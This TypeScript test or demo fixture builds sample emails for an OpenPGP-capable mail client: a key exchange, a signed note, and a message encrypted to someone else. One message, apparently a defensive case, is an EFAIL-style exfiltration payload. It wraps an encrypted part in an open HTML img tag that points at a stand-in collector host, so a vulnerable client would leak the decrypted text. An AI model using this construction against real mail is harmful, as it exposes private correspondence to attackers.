import { createMessage, readPrivateKey, sign } from 'openpgp'
import { encryptAndSign, generateOwnKey } from '../../../src/main/sealing/index.ts'
import type { OwnKey } from '../../../src/main/sealing/index.ts'
import type { StoredMail } from '../imap.ts'
import { lee, mailboxOf, okafor, practice } from '../people.ts'
import type { Person } from '../people.ts'
import { compose, messageIdOf, received } from './compose.ts'

const hourMs = 60 * 60 * 1000

type Outer = {
  readonly from: Person
  readonly subject: string
  readonly hoursAgo: number
  readonly now: Date
}

function lines(...text: readonly string[]): string {
  return [...text, ''].join('\r\n')
}

function textEntity(text: string): string {
  return lines('Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: 7bit', '', text)
}

function message({ from, subject, hoursAgo, now }: Outer, contentType: string, body: string): StoredMail {
  const date = new Date(now.getTime() - hoursAgo * hourMs)
  const header = lines(
    `From: ${mailboxOf(from)}`,
    `To: ${mailboxOf(practice)}`,
    `Subject: ${subject}`,
    `Date: ${date.toUTCString().replace('GMT', '+0000')}`,
    `Message-ID: ${messageIdOf(from, subject)}`,
    'MIME-Version: 1.0',
    `Content-Type: ${contentType}`,
  )
  return received(Buffer.from(`${header}\r\n${body}`), { from, hoursAgo }, now)
}

/** PGP/MIME with a signature and no encryption (RFC 3156, section 5). */
async function signedMail(outer: Outer, key: OwnKey, text: string): Promise<StoredMail> {
  const entity = textEntity(text).replace(/\r\n$/, '')
  const signature = await sign({
    message: await createMessage({ binary: Buffer.from(entity) }),
    signingKeys: await readPrivateKey({ armoredKey: key.secretKeyArmored }),
    detached: true,
    date: new Date(outer.now.getTime() - outer.hoursAgo * hourMs),
  })
  const body = lines(
    '--=_signed',
    entity,
    '--=_signed',
    'Content-Type: application/pgp-signature; name="signature.asc"',
    '',
    signature.trim().replace(/\r?\n/g, '\r\n'),
    '--=_signed--',
  )
  const type =
    'multipart/signed; micalg=pgp-sha512; protocol="application/pgp-signature"; boundary="=_signed"'
  return message(outer, type, body)
}

async function encryptedText(text: string, from: OwnKey, to: string, now: Date): Promise<string> {
  const made = await encryptAndSign(Buffer.from(textEntity(text)), {
    recipientCertificates: [to],
    signWith: from.secretKeyArmored,
    now,
  })
  if (!made.ok) throw new Error(`The demo could not encrypt: ${made.error.code}`)
  return Buffer.from(made.value.armored).toString('latin1').trimEnd()
}

function encryptedParts(armored: string): string {
  return lines(
    '--=_encrypted',
    'Content-Type: application/pgp-encrypted',
    '',
    'Version: 1',
    '',
    '--=_encrypted',
    'Content-Type: application/octet-stream; name="encrypted.asc"',
    '',
    armored,
    '--=_encrypted--',
  )
}

const encryptedType = 'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="=_encrypted"'

/** A key as old as a colleague's: one that is newer than the mail it signed would be refused. */
export function makeColleagueKey(owner: Person, now: Date): Promise<OwnKey> {
  return generateOwnKey({ address: owner.address, now: new Date(now.getTime() - 90 * 24 * hourMs) })
}

/** An encrypted and signed letter to whoever holds `certificate` (armored). */
async function encryptedLetter(
  outer: Outer,
  key: OwnKey,
  certificate: string,
  text: string,
): Promise<StoredMail> {
  const armored = await encryptedText(text, key, certificate, outer.now)
  return message(outer, encryptedType, encryptedParts(armored))
}

/** Mail of a colleague who uses OpenPGP, and two that must not be taken for protected mail. */
export async function protectedMail(leeKey: OwnKey, now: Date): Promise<StoredMail[]> {
  const okaforKey = await makeColleagueKey(okafor, now)
  const stolen = await encryptedText('Not for these eyes.', leeKey, okaforKey.certificateArmored, now)
  return [
    await compose(
      {
        from: lee,
        subject: 'My key',
        text: `Dear Elena,

attached is my OpenPGP key. Please call me before you use it, and we compare the fingerprint:
${leeKey.fingerprint}

James, (555) 010-0123
`,
        attachments: [
          {
            filename: 'james-lee.asc',
            content: leeKey.certificateArmored,
            contentType: 'application/pgp-keys',
          },
        ],
        hoursAgo: 75,
        flags: ['seen'],
      },
      now,
    ),
    await signedMail(
      { from: lee, subject: 'On call next week', hoursAgo: 23, now },
      leeKey,
      'Dear Elena,\r\n\r\nI am on call from Monday to Wednesday, also for your patients.\r\n\r\nJames',
    ),
    // Encrypted to somebody else: it can't be opened here, and the reader has to say so.
    await encryptedLetter(
      { from: lee, subject: '...', hoursAgo: 48, now },
      leeKey,
      okaforKey.certificateArmored,
      'Dear Ada, this was meant for you.',
    ),
    // EFAIL (CVE-2017-17688): an encrypted part between two pieces of HTML that would carry its text away.
    message(
      {
        from: { name: 'James Lee', address: 'j.lee@post.example' },
        subject: 'Fwd: report',
        hoursAgo: 29,
        now,
      },
      'multipart/mixed; boundary="=_outer"',
      lines(
        '--=_outer',
        'Content-Type: text/html; charset=utf-8',
        '',
        '<p>The report you asked for:</p><img src="https://collect.post.example/?',
        '--=_outer',
        `Content-Type: ${encryptedType}`,
        '',
        encryptedParts(stolen),
        '--=_outer',
        'Content-Type: text/html; charset=utf-8',
        '',
        '">',
        '--=_outer--',
      ),
    ),
  ]
}
